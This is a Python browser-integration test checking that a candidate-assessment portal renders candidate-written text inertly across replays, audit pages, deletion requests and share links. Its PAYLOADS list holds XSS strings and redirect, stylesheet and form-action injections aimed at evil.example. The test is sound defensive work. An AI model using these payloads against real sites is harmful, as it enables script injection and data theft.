"""Candidate-controlled text in a real browser: nothing of it may run, and the policy must have nothing to block."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from protocol.attempts import TrackKind
from protocol.facts import (
    Fact,
    MessageFact,
    ObservationFact,
    Observed,
    PauseFact,
    RecorderEvent,
    RecorderFact,
    TranscriptFact,
)
from protocol.identifiers import new_identifier
from protocol.policy import Detector
from tests.integration.portal import work as working
from tests.integration.portal.conftest import Visitor
from tests.integration.portal.device import Device
from tests.integration.portal.payloads import MORE, RUN
from tests.integration.portal.server import OFFICER, Running
from tests.integration.portal.test_sharing_links import make_link
from tests.integration.portal.work import Worked, work
from tests.ledger import Ledger

pytestmark = pytest.mark.browser
Visit = Callable[..., Visitor]
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"'\"><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"javascript:{RUN}",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button id=main autofocus>",
    f"--></textarea></title></noscript><img src=x onerror={RUN}>",
    "\u202egnp.exe\u2066\u200b\u0007<b>\u2069",
]


FIELDS = ("name", "edits", "source", "device", "reason", "message", "pause", "speech", "language of it", "who heard it")
FURTHER_FIELDS = ("program", "display", "wish to be deleted", "recipient of a link")
"""Where each payload is written: by the candidate's hand or by a device that is not ours, the last by a member."""


def hostile_facts(payload: str) -> list[Fact]:
    """The payload wherever an entry of the journal holds free text."""
    return [
        RecorderFact(
            stream=TrackKind.CAMERA, event=RecorderEvent.FAILED, device=payload[:200], reason=payload[:500], lost_us=5
        ),
        MessageFact(message=new_identifier(), sender="candidate", text=payload[:2000]),
        PauseFact(paused=True, words=payload[:500]),
        PauseFact(paused=False),
        TranscriptFact(start_us=1, end_us=2, text=payload[:2000], language=payload[:20], engine=payload[:100]),
        ObservationFact(detector=Detector.PROGRAMS, observed=Observed.RUNNING, name=payload[:200]),
        ObservationFact(detector=Detector.DISPLAYS, observed=Observed.DISPLAYS, count=2, name=payload[:200]),
    ]


def hostile_work(backend: Running, monkeypatch: pytest.MonkeyPatch, payload: str) -> Worked:
    """The payload as name, in code and in each fact with free text."""
    original = working._solve_second

    def solve(device: Device, problem: str) -> None:
        device.submit_facts(*hostile_facts(payload))
        original(device, problem)

    monkeypatch.setattr(working, "_solve_second", solve)
    return work(backend, payload[:150], media=False, source=f"x = '''{payload}'''\n{payload}\n# {payload}\n")


def test_nothing_runs_anywhere(visit: Visit, backend: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    assert len({*PAYLOADS, *MORE}) >= 150
    nothing_runs(visit, backend, monkeypatch, PAYLOADS)


def test_nothing_runs_of_a_hundred_and_fifty_in_one_source(
    visit: Visit, backend: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Lines of one program; what stands in a line that is no text of a program is told apart elsewhere."""
    nothing_runs(visit, backend, monkeypatch, ["\n".join(each for each in MORE if "\n" not in each)])


@pytest.mark.long
@pytest.mark.timeout(7200)
@pytest.mark.parametrize("part", range(8))
def test_nothing_runs_of_a_hundred_and_fifty_in_every_field(
    visit: Visit, backend: Running, monkeypatch: pytest.MonkeyPatch, part: int
) -> None:
    payloads = [each for each in MORE if "\n" not in each][part::8]
    nothing_runs(visit, backend, monkeypatch, payloads)
    written = len(payloads) * len(FIELDS + FURTHER_FIELDS)
    Ledger("hostile text in every field").add(part, {"payloads": len(payloads), "written": written})


def nothing_runs(visit: Visit, backend: Running, monkeypatch: pytest.MonkeyPatch, payloads: list[str]) -> None:
    """A candidate writes each of them wherever a candidate can write; everybody looks at everything."""
    member, officer, candidate, guest = visit(), visit(), visit(), visit()
    outside: list[str] = []
    for visitor in (member, officer, candidate, guest):
        visitor.page.on(
            "request", lambda request: outside.append(request.url) if backend.url not in request.url else None
        )
    for number, payload in enumerate(payloads):
        if number % 5 == 0:  # again now and then: a link is made only by who showed lately who they are
            member.sign_in()
            officer.sign_in(OFFICER)
        worked = hostile_work(backend, monkeypatch, payload)
        look_everywhere((member, officer, candidate, guest), worked, payload)
        for visitor in (member, officer, candidate, guest):
            assert visitor.page.evaluate("window.pwned === undefined"), payload
            assert visitor.trouble == [], payload
    for path in ("/portal/attempts", "/portal/audit"):  # all of them in one list
        shown = member.open(path).evaluate("document.body.textContent")
        assert member.page.evaluate("window.pwned === undefined"), path
        assert any(payload[:150] in shown for payload in payloads), path
    assert member.trouble == []
    assert outside == []


def look_everywhere(visitors: tuple[Visitor, Visitor, Visitor, Visitor], worked: Worked, payload: str) -> None:
    """Open every page that shows what the candidate wrote."""
    member, officer, candidate, guest = visitors
    page = member.open_replay(f"/portal/attempts/{worked.device.joined.attempt}")
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    page.evaluate("document.querySelector('[data-island=replay]').island.seek(1e6)")
    for lines in ("#code .code-line", "#replay .code-line"):
        page.evaluate("document.querySelector('[data-island=replay]').island.seek(17)")
        shown = page.evaluate(
            "lines => [...document.querySelectorAll(lines)].map(each => each.textContent).join('\\n')", lines
        )
        assert payload in shown, lines
    guest.open_replay(make_link(member, worked, recipient=payload[:190]))
    candidate.open(worked.page_url + "/deletion")
    candidate.page.check("[name=understood]")
    candidate.page.fill("#words", payload)
    candidate.page.get_by_role("button", name="Ask for deletion").click()
    officer.open("/portal/privacy").locator("a.row-link").first.click()
